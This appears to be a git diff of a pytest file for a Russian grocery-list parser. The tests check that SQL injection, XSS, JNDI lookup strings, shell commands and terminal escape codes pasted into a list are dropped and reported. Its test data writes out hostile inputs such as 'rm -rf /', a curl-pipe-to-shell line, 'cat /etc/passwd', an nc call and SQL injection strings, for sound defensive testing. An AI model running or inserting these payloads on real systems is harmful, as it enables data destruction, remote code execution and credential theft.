@@ -41,9 +41,32 @@ def test_escapes_markup_and_code_never_become_items(text: str, tmp_path: Path) -
         assert not any(junk in i["name"] or junk in i["raw"].lower() for i in doc["items"])
 
 
-def test_pasted_code_is_said_not_understood(tmp_path: Path) -> None:
-    doc = parsed("молоко, хлеб; DROP TABLE offers; --", tmp_path)
-    assert "не понял: «DROP TABLE offers»" in doc["notes"]
+# Code and markup pasted into a list, and the note naming what was dropped (never silent).
+PASTED_CODE = [
+    ("молоко; DROP TABLE offers; --", ["молоко"], "пропустил SQL-код: «DROP TABLE offers»"),
+    ("хлеб'); DELETE FROM prices; --", ["хлеб"], "пропустил SQL-код: «DELETE FROM prices»"),
+    ("сыр; UPDATE offers SET price=0", ["сыр"], "пропустил SQL-код: «UPDATE offers SET price=0»"),
+    ("молоко\nINSERT INTO offers VALUES (1, 'x')", ["молоко"],
+     "пропустил SQL-код: «INSERT INTO offers VALUES (1, 'x')»"),
+    ("молоко; union select password from users", ["молоко"],
+     "пропустил SQL-код: «union select password from users»"),
+    ("хлеб' OR '1'='1", ["хлеб"], "пропустил SQL-код: «OR '1'='1»"),
+    ("SELECT * FROM users, сыр", ["сыр"], "пропустил SQL-код: «SELECT * FROM users»"),
+    ("<img src=x onerror=alert(1)> сыр", ["сыр"],
+     "пропустил HTML-разметку: «<img src=x onerror=alert(1)>»"),
+    ("<script>alert(1)</script> хлеб", ["хлеб"], "пропустил скрипт: «<script>alert(1)</script>»"),
+    ("javascript:alert(1), молоко", ["молоко"], "пропустил скрипт: «javascript:alert(1)»"),
+    ("сыр ${jndi:ldap://x/a}", ["сыр"], "пропустил скрипт: «${jndi:ldap://x/a}»"),
+    ("молоко; rm -rf /", ["молоко"], "пропустил команду оболочки: «rm -rf /»"),
+    ("молоко, $(curl evil.sh | sh)", ["молоко"],
+     "пропустил команду оболочки: «$(curl evil.sh | sh)»"),
+    ("хлеб && cat /etc/passwd", ["хлеб"], "пропустил команду оболочки: «cat /etc/passwd»"),
+    ("молоко | nc evil 80", ["молоко"], "пропустил команду оболочки: «nc evil 80»"),
+    ("хлеб `whoami`", ["хлеб"], "пропустил команду оболочки: «`whoami`»"),
+    ("\x1b[31mмолоко\x1b[0m", ["молоко"],
+     "пропустил управляющие коды терминала: «ESC[31m», «ESC[0m»"),
+    ("молоко\u202e, хлеб\x00", ["молоко", "хлеб"], "пропустил невидимые управляющие символы: 2"),
+]  # fmt: skip
 
 
 def test_a_lone_unknown_latin_word_in_a_list_is_still_an_item_a_brand_perhaps() -> None:
@@ -51,6 +74,55 @@ def test_a_lone_unknown_latin_word_in_a_list_is_still_an_item_a_brand_perhaps() 
     # a brand the vocabulary does not know yet stays an item, with its note.
     sl = parse_text("молоко, pellegrino")
     assert [i.name for i in sl.items] == ["молоко", "pellegrino"]
+
+
+@pytest.mark.parametrize(("text", "items", "note"), PASTED_CODE)
+def test_pasted_code_is_dropped_and_named(text: str, items: list[str], note: str) -> None:
+    sl = parse_text(text)
+    assert [i.name for i in sl.items] == items
+    assert note in sl.notes
+    assert not any(n.startswith("не понял") for n in sl.notes), sl.notes
+
+
+def test_pasted_code_is_named_through_the_installed_commands(tmp_path: Path) -> None:
+    # One list holding every kind, through `korzina parse` and `korzina basket --offline`.
+    text = "\n".join(t for t, _, _ in PASTED_CODE)
+    doc = parsed(text, tmp_path)
+    assert [i["name"] for i in doc["items"]] == ["молоко", "хлеб", "сыр"]
+    notes = " ".join(doc["notes"])
+    for kind in (
+        "SQL-код",
+        "HTML-разметку",
+        "скрипт",
+        "команду оболочки",
+        "управляющие коды терминала",
+    ):
+        assert f"пропустил {kind}: «" in notes
+    code, out, err = run_korzina_text(["basket", "--offline", "--json"], {}, tmp_path, stdin=text)
+    assert code == 0, err
+    answer = json.loads(out)
+    assert [i["name"] for i in answer["items"]] == ["молоко", "хлеб", "сыр"]
+    (sql,) = [n for n in answer["notes"] if n.startswith("пропустил SQL-код: ")]
+    assert "«DROP TABLE offers»" in sql and "«DELETE FROM prices»" in sql and "и ещё 4" in sql
+
+
+def test_latin_brands_stay_items(tmp_path: Path) -> None:
+    doc = parsed("lays, Red Bull, coca-cola, pellegrino", tmp_path)
+    got = [(i["name"], i["brand"]) for i in doc["items"]]
+    assert got == [
+        ("чипсы", "Lay's"),
+        ("энергетик", "Red Bull"),
+        ("кола", "Coca-Cola"),
+        ("pellegrino", None),
+    ]
+    assert not any(n.startswith("пропустил") for n in doc["notes"])
+
+
+def test_lists_with_code_like_words_are_untouched() -> None:
+    # A pipe between items, «cat» and «select» as words, «&» in a name: not code.
+    sl = parse_text("молоко | хлеб, корм для кошек, сыр «Select», M&M's")
+    assert not any(n.startswith("пропустил") for n in sl.notes), sl.notes
+    assert [i.name for i in sl.items][:3] == ["молоко", "хлеб", "корм для кошек"]
 
 
 @pytest.mark.parametrize(
